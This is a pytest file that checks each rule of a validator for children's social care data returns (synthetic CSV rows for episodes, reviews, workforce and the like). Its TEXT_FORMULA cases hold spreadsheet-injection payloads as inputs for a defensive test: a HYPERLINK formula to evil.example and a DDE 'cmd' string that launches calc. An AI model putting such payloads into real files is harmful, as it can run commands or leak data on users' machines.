"""Each rule of `queries.rules` has a failing example: one broken cell of the mini return, and the finding it
must produce (file, spreadsheet row, column as the file spells it, rule code), and no other error."""

from __future__ import annotations

from collections.abc import Callable
from dataclasses import dataclass, field
from datetime import date
from pathlib import Path

import pytest

from queries.ingest import validate_return
from queries.rules import FILES, RULES
from queries.schema import RETURN_TABLES
from tests.queries.mini_return import MINI_RETURN, replace_line, write_mini_return

AS_OF = date(2025, 6, 1)
HEADER = "CHILD,SEX,DOB,ETHNIC,UPN,MOTHER,MC_DOB"
EPISODE_4 = "C2,03/03/2022,S,V2,N2,P1,,01/06/2024,E13,,"  # C2's episode up to HOME_POST


@dataclass(frozen=True)
class Case:
    rule: str
    file: str
    row: int | None
    column: str | None
    changes: dict[str, str] = field(default_factory=dict)
    prepare: Callable[[Path], None] | None = None
    also: frozenset[str] = frozenset()  # other errors the same break rightly causes
    known_indicators: frozenset[str] | None = None


def line(file: str, number: int, text: str) -> dict[str, str]:
    return {file.replace(".csv", "_csv"): replace_line(file, number, text)}


def _remove(name: str) -> Callable[[Path], None]:
    return lambda folder: (folder / name).unlink()


def _write_bytes(name: str, data: bytes) -> Callable[[Path], None]:
    return lambda folder: (folder / name).write_bytes(data)


CASES = [
    Case(
        "FILE_MISSING",
        "header.csv",
        None,
        None,
        prepare=_remove("header.csv"),
        also=frozenset({"CHILD_NOT_IN_HEADER"}),
    ),
    Case(
        "FILE_NOT_UTF8",
        "header.csv",
        3,
        None,
        prepare=_write_bytes(
            "header.csv",
            (HEADER + "\nC1,1,01/05/2010,WBRI,,0,\nC2,2,15/08/2007,Caf\xe9,,,\n").encode("latin-1"),
        ),
        also=frozenset({"CHILD_NOT_IN_HEADER"}),
    ),
    Case("FILE_EMPTY", "episodes.csv", None, None, {"episodes_csv": ""}),
    Case("ROW_WIDTH", "reviews.csv", 3, None, line("reviews.csv", 3, "C1,01/05/2010,01/12/2023,PN2,extra")),
    Case("ROW_WIDTH", "reviews.csv", 3, None, line("reviews.csv", 3, "C1,01/05/2010")),
    Case("FILE_NOT_CSV", "visits.csv", 3, None, line("visits.csv", 3, 'C1,"2023-05-20')),
    Case(
        "FILE_NOT_XML", "return.xml", None, None, prepare=_write_bytes("return.xml", b"<EXPSSDA903><CHILD>")
    ),
    Case(
        "FILE_TWICE",
        "header.csv",  # the second of the two the folder lists (upper case sorts first)
        None,
        None,
        prepare=_write_bytes("SSDA903_2023_24_Header.csv", MINI_RETURN["header.csv"].encode()),
    ),
    Case(
        "YEAR_UNKNOWN",
        "oc2.csv",
        None,
        None,
        {
            "oc2_csv": MINI_RETURN["oc2.csv"].replace(",YEAR", "").replace(",2025", "").replace(",2024", ""),
            "oc3_csv": "CHILD,DOB,IN_TOUCH,ACTIV,ACCOM\nC2,15/08/2007,YES,F2,D1\n",
            "episodes_csv": MINI_RETURN["episodes.csv"].splitlines()[0] + "\n",
            "reviews_csv": "CHILD,DOB,REVIEW,REVIEW_CODE\n",
            "missing_csv": "CHILD,DOB,MISSING,MIS_START,MIS_END\n",
        },
    ),
    Case("FILE_NO_ROWS", "missing.csv", None, None, {"missing_csv": "CHILD,DOB,MISSING,MIS_START,MIS_END\n"}),
    Case(
        "HEADER_NO_ROWS",
        "header.csv",
        None,
        None,
        {"header_csv": HEADER + "\n"},
        also=frozenset({"CHILD_NOT_IN_HEADER"}),
    ),
    Case("FILE_UNKNOWN", "notes.csv", None, None, prepare=_write_bytes("notes.csv", b"A\n1\n")),
    Case("COLUMN_MISSING", "header.csv", 1, "ETHNIC", {"header_csv": "CHILD,SEX,DOB\nC1,1,01/05/2010\n"}),
    Case(
        "COLUMN_ABSENT_OPTIONAL",
        "header.csv",
        1,
        "UPN",
        {
            "header_csv": "CHILD,SEX,DOB,ETHNIC,MOTHER,MC_DOB\n"
            "C1,1,01/05/2010,WBRI,0,\nC2,2,15/08/2007,MWBC,1,02/02/2024\nC3,2,2012-03-30,WBRI,,\n"
        },
    ),
    Case(
        "COLUMN_EXTRA", "visits.csv", 1, "Note", {"visits_csv": "CHILD,VISIT_DATE,Note\nC1,15/04/2023,hi\n"}
    ),
    Case(
        "COLUMN_DUPLICATE",
        "visits.csv",
        1,
        "child",
        {"visits_csv": "CHILD,VISIT_DATE,child\nC1,15/04/2023,C1\n"},
    ),
    Case(
        "COLUMN_UNNAMED", "visits.csv", 1, "column 3", {"visits_csv": "CHILD,VISIT_DATE,\nC1,15/04/2023,\n"}
    ),
    Case(
        "ROW_EMPTY",
        "visits.csv",
        None,
        None,
        {"visits_csv": "CHILD,VISIT_DATE\nC1,15/04/2023\n,\nC3,03/02/2025\n"},
    ),
    Case("VALUE_REQUIRED", "header.csv", 2, "SEX", line("header.csv", 2, "C1,,01/05/2010,WBRI,,0,")),
    Case("DATE_INVALID", "header.csv", 2, "DOB", line("header.csv", 2, "C1,1,31/02/2010,WBRI,,0,")),
    Case("DATE_INVALID", "visits.csv", 2, "VISIT_DATE", line("visits.csv", 2, "C1,15/04/23")),
    Case("DATE_FUTURE", "visits.csv", 2, "VISIT_DATE", line("visits.csv", 2, "C1,01/01/2026")),
    Case(
        "MONTH_INVALID", "workforce.csv", 3, "MONTH", line("workforce.csv", 3, "2024-13,22,2.5,4,0,305,22,22")
    ),
    Case(
        "INTEGER_INVALID", "population.csv", 2, "CHILDREN_UNDER_18", line("population.csv", 2, "2024,18200.5")
    ),
    Case(
        "NUMBER_INVALID",
        "workforce.csv",
        2,
        "SW_FTE",
        line("workforce.csv", 2, "2024-03,lots,3,4.25,0.5,310,22,19"),
    ),
    Case(
        "NUMBER_RANGE", "oc2.csv", 2, "SDQ_SCORE", line("oc2.csv", 2, "C1,01/05/2010,41,,0,1,1,0,1,0,,,2025")
    ),
    Case(
        "NUMBER_ROUNDED",
        "education.csv",
        3,
        "KS4_ATTAINMENT8",
        line("education.csv", 3, "C2,2024,370,40,0,0,N,,38.55,0"),
    ),
    Case("BOOLEAN_INVALID", "header.csv", 2, "MOTHER", line("header.csv", 2, "C1,1,01/05/2010,WBRI,,Y,")),
    Case("CODE_INVALID", "header.csv", 2, "ETHNIC", line("header.csv", 2, "C1,1,01/05/2010,wbri,,0,")),
    Case("CODE_INVALID", "header.csv", 2, "SEX", line("header.csv", 2, "C1,3,01/05/2010,WBRI,,0,")),
    Case("CODE_INVALID", "oc3.csv", 2, "ACCOM", line("oc3.csv", 2, "C2,15/08/2007,YES,F2,D3,2025")),
    Case(
        "CHILD_INVALID",
        "visits.csv",
        2,
        "CHILD",
        line("visits.csv", 2, "C-1,15/04/2023"),
    ),
    Case(
        "TEXT_TOO_LONG",
        "header.csv",
        2,
        "UPN",
        line("header.csv", 2, "C1,1,01/05/2010,WBRI,A1234567890123,0,"),
    ),
    # Text a spreadsheet would run as a formula (OWASP "CSV Injection") never loads: codes, postcodes, pupil
    # numbers and names of areas and sources never begin with = + - @ (a tab or CR is stripped on reading).
    Case("TEXT_FORMULA", "header.csv", 2, "UPN", line("header.csv", 2, "C1,1,01/05/2010,WBRI,=1+1,0,")),
    Case("TEXT_FORMULA", "episodes.csv", 4, "HOME_POST", line("episodes.csv", 4, EPISODE_4 + "=A1,,")),
    *(
        Case(
            "TEXT_FORMULA",
            "comparators.csv",
            2,
            column,
            line("comparators.csv", 2, "placements_3plus_pct," + text),
        )
        for column, text in (
            ("AREA", '2024,"=HYPERLINK(""http://evil.example/?x"",""England"")",10.1,DfE'),
            ("AREA", "2024,+cmd|' /C calc'!A0,10.1,DfE"),
            ("SOURCE", "2024,England,10.1,@SUM(1+1)"),
            ("SOURCE", '2024,England,10.1,"\t-2+3"'),
        )
    ),
    Case("KEY_DUPLICATE", "visits.csv", 3, "CHILD, VISIT_DATE", line("visits.csv", 3, "C1,2023-04-15")),
    Case(
        "INDICATOR_UNKNOWN",
        "plan_targets.csv",
        2,
        "INDICATOR",
        known_indicators=frozenset({"placements_3plus_pct_x"}),
        also=frozenset(),
    ),
    Case("CHILD_NOT_IN_HEADER", "visits.csv", 2, "CHILD", line("visits.csv", 2, "C9,15/04/2023")),
    Case("DOB_DIFFERS", "reviews.csv", 2, "DOB", line("reviews.csv", 2, "C1,02/05/2010,01/06/2023,PN1")),
    Case("MC_DOB_REQUIRED", "header.csv", 3, "MC_DOB", line("header.csv", 3, "C2,2,15/08/2007,MWBC,,1,")),
    Case(
        "MC_DOB_WITHOUT_MOTHER",
        "header.csv",
        2,
        "MC_DOB",
        line("header.csv", 2, "C1,1,01/05/2010,WBRI,,0,01/01/2024"),
    ),
    Case(
        "MC_DOB_BEFORE_DOB",
        "header.csv",
        3,
        "MC_DOB",
        line("header.csv", 3, "C2,2,15/08/2007,MWBC,,1,02/02/2005"),
    ),
    Case(
        "DECOM_BEFORE_DOB",
        "episodes.csv",
        4,
        "DECOM",
        line("episodes.csv", 4, "C2,03/03/2006,S,V2,N2,P1,,01/06/2024,E13,,JE1,,"),
    ),
    Case(
        "DEC_BEFORE_DECOM",
        "episodes.csv",
        4,
        "DEC",
        line("episodes.csv", 4, "C2,03/03/2022,S,V2,N2,P1,,01/06/2021,E13,,JE1,,"),
    ),
    Case(
        "REC_WITHOUT_DEC",
        "episodes.csv",
        5,
        "REC",
        line("episodes.csv", 5, "C3,01/02/2025,S,C1,N4,U1,PR1,,E13,,JE4,JE4,"),
    ),
    Case(
        "DEC_WITHOUT_REC",
        "episodes.csv",
        4,
        "DEC",
        line("episodes.csv", 4, "C2,03/03/2022,S,V2,N2,P1,,01/06/2024,,,JE1,,"),
    ),
    # DfE 225: the reason is recorded on the episode that ENDS with the move (C1's first), not the new one.
    Case(
        "REASON_PLACE_CHANGE_REQUIRED",
        "episodes.csv",
        2,
        "REASON_PLACE_CHANGE",
        line("episodes.csv", 2, "C1,01/04/2023,S,C2,N1,U4,PR1,10/01/2024,X1,,JE2,JE3,SC123456"),
    ),
    Case(
        "REASON_PLACE_CHANGE_ON_TEMPORARY",
        "episodes.csv",
        5,
        "REASON_PLACE_CHANGE",
        line("episodes.csv", 5, "C3,01/02/2025,S,C1,N4,T1,,01/03/2025,E13,CARPL,JE4,JE4,"),
        also=frozenset(),
    ),
    Case(
        "REASON_PLACE_CHANGE_ON_OPEN",
        "episodes.csv",
        3,
        "REASON_PLACE_CHANGE",
        line("episodes.csv", 3, "C1,10/01/2024,P,C2,N1,K2,PR4,,,CARPL,JE2,SO14,"),
    ),
    # H5 gave way to K3 from 2024/25: H5 in an episode starting in February 2025 is refused...
    Case(
        "PLACE_NOT_VALID_FOR_YEAR",
        "episodes.csv",
        5,
        "PLACE",
        line("episodes.csv", 5, "C3,01/02/2025,S,C1,N4,H5,PR1,,,,JE4,JE4,"),
    ),
    # ... and K3 in an episode starting in January 2024 (year 2023/24) is not yet valid.
    Case(
        "PLACE_NOT_VALID_FOR_YEAR",
        "episodes.csv",
        3,
        "PLACE",
        line("episodes.csv", 3, "C1,10/01/2024,P,C2,N1,K3,PR4,,,CARPL,JE2,SO14,"),
    ),
    Case(
        "EPISODES_OVERLAP",
        "episodes.csv",
        3,
        "DECOM",
        line("episodes.csv", 3, "C1,09/01/2024,P,C2,N1,K2,PR4,,,CARPL,JE2,SO14,"),
    ),
    Case(
        "EPISODE_OPEN_NOT_LAST",
        "episodes.csv",
        2,
        "DEC",
        line("episodes.csv", 2, "C1,01/04/2023,S,C2,N1,U4,PR1,,,,JE2,JE3,SC123456"),
        also=frozenset({"EPISODES_MORE_THAN_ONE_OPEN"}),
    ),
    Case(
        "EPISODES_MORE_THAN_ONE_OPEN",
        "episodes.csv",
        3,
        "DEC",
        line("episodes.csv", 2, "C1,01/04/2023,S,C2,N1,U4,PR1,,,,JE2,JE3,SC123456"),
        also=frozenset({"EPISODE_OPEN_NOT_LAST"}),
    ),
    Case(
        "REVIEW_BEFORE_DOB",
        "reviews.csv",
        2,
        "REVIEW",
        line("reviews.csv", 2, "C1,01/05/2010,01/06/2009,PN1"),
    ),
    Case(
        "MIS_END_BEFORE_START",
        "missing.csv",
        2,
        "MIS_END",
        line("missing.csv", 2, "C1,01/05/2010,M,05/07/2023,04/07/2023"),
    ),
    Case(
        "ACTIV_WHEN_NOT_IN_TOUCH",
        "oc3.csv",
        2,
        "ACTIV",
        line("oc3.csv", 2, "C2,15/08/2007,NO,F2,D1,2025"),
    ),
    Case(
        "SW_DEC_BEFORE_SW_DECOM",
        "sw_episodes.csv",
        2,
        "SW_DEC",
        prepare=_write_bytes(
            "sw_episodes.csv",
            b"CHILD,DOB,SW_ID,SW_DECOM,SW_DEC,SW_REASON\nC1,01/05/2010,SW1,01/06/2023,01/05/2023,\n",
        ),
    ),
    Case(
        "DOLO_END_BEFORE_START",
        "dolo.csv",
        2,
        "DOLO_END",
        prepare=_write_bytes(
            "dolo.csv", b"CHILD,DOB,DOLO_START,DOLO_END\nC1,01/05/2010,01/06/2023,01/05/2023\n"
        ),
    ),
    Case(
        "SESSIONS_MISSED_EXCEED_POSSIBLE",
        "education.csv",
        2,
        "SESSIONS_MISSED",
        line("education.csv", 2, "C1,2024,380,381,1,0,K,,,1"),
    ),
    Case(
        "SUPERVISIONS_ON_TIME_EXCEED_DUE",
        "workforce.csv",
        2,
        "SUPERVISIONS_ON_TIME",
        line("workforce.csv", 2, "2024-03,21.5,3,4.25,0.5,310,22,23"),
    ),
    Case(
        "SERVICE_UNKNOWN",
        "inspections.csv",
        3,
        "SERVICE_ID",
        line("inspections.csv", 3, "SC999999,20/02/2023,OUTSTANDING"),
    ),
    Case(
        "SERVICE_UNKNOWN",
        "service_costs.csv",
        2,
        "SERVICE_ID",
        line("service_costs.csv", 2, "SC999999,01/04/2023,4000"),
    ),
    Case(
        "URN_NOT_A_SERVICE",
        "episodes.csv",
        2,
        "URN",
        line("episodes.csv", 2, "C1,01/04/2023,S,C2,N1,U4,PR1,10/01/2024,X1,,JE2,JE3,SC654321"),
    ),
    Case(
        "CODE_INVALID",
        "services.csv",
        2,
        "KIND",
        line(
            "services.csv",
            2,
            "SC123456,Harbour House,Government of Jersey,HOME,1,1,4,4200.5,,GOOD,12/03/2024",
        ),
    ),
    Case(
        "CODE_INVALID",
        "inspections.csv",
        2,
        "GRADE",
        line("inspections.csv", 2, "SC123456,12/03/2024,Good"),
    ),
]


@pytest.mark.parametrize("case", CASES, ids=[f"{case.rule}-{case.file}-{case.row}" for case in CASES])
def test_rule_has_a_failing_example(tmp_path, case: Case):
    folder = write_mini_return(tmp_path / "return", **case.changes)
    if case.prepare is not None:
        case.prepare(folder)

    report = validate_return(folder, as_of=AS_OF, known_indicators=case.known_indicators)

    rule = RULES[case.rule]
    everything = report.errors + report.findings + report.warnings
    matches = [
        finding
        for finding in everything
        if (finding.rule, finding.file, finding.row, finding.column)
        == (case.rule, case.file, case.row, case.column)
    ]
    if not matches:  # a rule the DfE registry checks too (225, 226, 233) is reported once, under its code
        matches = [
            finding
            for finding in everything
            if finding.rule == getattr(rule, "dfe", None)
            and (finding.file, finding.row) == (case.file, case.row)
        ]
    assert matches, report.to_text()
    assert all(finding.severity == rule.severity for finding in matches)
    assert all(finding.message.startswith(rule.message) for finding in matches if finding.rule == case.rule)
    assert {finding.rule for finding in report.errors} <= {case.rule, *case.also}, report.to_text()
    assert report.ok == (rule.severity != "error")
    if rule.severity == "finding":
        assert not validate_return(
            folder, as_of=AS_OF, known_indicators=case.known_indicators, strict=True
        ).ok


def test_every_rule_has_a_failing_example():
    assert {case.rule for case in CASES} == set(RULES)


def test_the_mini_return_is_valid(tmp_path):
    report = validate_return(
        write_mini_return(tmp_path), as_of=AS_OF, known_indicators={"placements_3plus_pct"}
    )

    assert report.ok, report.to_text()
    assert report.warnings == []
    assert report.row_counts == {file: text.count("\n") - 1 for file, text in MINI_RETURN.items()}


def test_every_error_is_collected_not_only_the_first(tmp_path):
    header = HEADER + "\nC1,3,31/02/2010,WBRI,,Y,\nC2,,15/08/2007,XXXX,,1,\nC3,2,2012-03-30,WBRI,,,\n"
    report = validate_return(write_mini_return(tmp_path, header_csv=header), as_of=AS_OF)

    assert [(f.row, f.column, f.rule) for f in report.errors] == [
        (2, "DOB", "DATE_INVALID"),
        (2, "MOTHER", "BOOLEAN_INVALID"),
        (2, "SEX", "CODE_INVALID"),
        (3, "ETHNIC", "CODE_INVALID"),
        (3, "MC_DOB", "MC_DOB_REQUIRED"),
        (3, "SEX", "VALUE_REQUIRED"),
    ]
    first = report.errors[0]
    assert (first.value, first.child, first.file) == ("31/02/2010", "C1", "header.csv")


def test_a_change_of_placement_the_day_the_last_ended_is_not_an_overlap(tmp_path):
    # data-spec: "an episode starting the day after (or the day) the previous one ended with REC = X1
    # continues the same period of care" - the mini return's C1 changes placement on the day (10/01/2024).
    episodes = replace_line("episodes.csv", 3, "C1,11/01/2024,P,C2,N1,K2,PR4,,,,JE2,SO14,")
    assert validate_return(write_mini_return(tmp_path, episodes_csv=episodes), as_of=AS_OF).ok


def test_placement_codes_follow_the_year_of_decom(tmp_path):
    # H5 is valid in 2023/24 and K3 in 2024/25; Z1 is withdrawn from 2025/26 (Z11-Z14 instead).
    episodes = (
        "CHILD,DECOM,RNE,LS,CIN,PLACE,PLACE_PROVIDER,DEC,REC,REASON_PLACE_CHANGE\n"
        "C1,01/04/2023,S,C2,N1,H5,PR1,01/04/2024,X1,CARPL\n"
        "C1,01/04/2024,P,C2,N1,K3,PR1,01/04/2025,X1,CARPL\n"
        "C1,01/04/2025,P,C2,N1,Z1,PR1,,,\n"
    )
    report = validate_return(write_mini_return(tmp_path, episodes_csv=episodes), as_of=date(2025, 6, 1))

    assert [(f.row, f.rule) for f in report.errors] == [(4, "PLACE_NOT_VALID_FOR_YEAR")]
    assert "PLACE list from 2025/26" in report.errors[0].message
    assert report.code_list_years == {
        "PLACE list up to 2023/24": "2023/24",
        "PLACE list from 2024/25": "2024/25",
        "PLACE list from 2025/26": "2025/26",
    }
    assert "H5" in report.code_lists["PLACE list up to 2023/24"]
    assert {"Z1", "P2", "H5"}.isdisjoint(report.code_lists["PLACE list from 2025/26"])


def test_column_names_are_case_insensitive_and_iso_dates_accepted(tmp_path):
    visits = "child,Visit_Date\nC1,2023-04-15\nC3,3/2/2025\n"
    report = validate_return(write_mini_return(tmp_path, visits_csv=visits), as_of=AS_OF)

    assert report.ok, report.to_text()


def test_every_file_is_a_table_and_its_key_is_the_primary_key():
    # Validation refuses duplicate keys so that a load never fails on the database's primary key.
    assert set(FILES) == set(RETURN_TABLES)
    for file, spec in FILES.items():
        assert list(spec.key) == [column.name for column in RETURN_TABLES[file].primary_key.columns]
        assert [column.name for column in spec.columns] == [
            column.name for column in RETURN_TABLES[file].columns if column.name != "source_row"
        ]


@pytest.mark.parametrize("name", ["services.csv", "inspections.csv", "service_costs.csv"])
def test_the_service_files_are_optional(tmp_path, name):
    folder = write_mini_return(tmp_path)
    (folder / name).unlink()
    if name == "services.csv":  # the histories name its services, so they go with it
        for history in ("inspections.csv", "service_costs.csv"):
            (folder / history).unlink()

    report = validate_return(folder, as_of=AS_OF, known_indicators={"placements_3plus_pct"})

    assert report.ok, report.to_text()
    assert report.warnings == []
    assert name not in report.row_counts


def test_histories_without_services_name_unknown_services(tmp_path):
    folder = write_mini_return(tmp_path)
    (folder / "services.csv").unlink()

    report = validate_return(folder, as_of=AS_OF)

    assert {(finding.rule, finding.file) for finding in report.errors} == {
        ("SERVICE_UNKNOWN", "inspections.csv"),
        ("SERVICE_UNKNOWN", "service_costs.csv"),
    }


def test_a_contract_may_end_in_the_future(tmp_path):
    services = replace_line(
        "services.csv",
        2,
        "SC123456,Harbour House,Government of Jersey,CHILDRENS_HOME,1,1,4,4200.5,31/03/2027,,",
    )
    report = validate_return(write_mini_return(tmp_path, services_csv=services), as_of=AS_OF)

    assert report.ok, report.to_text()
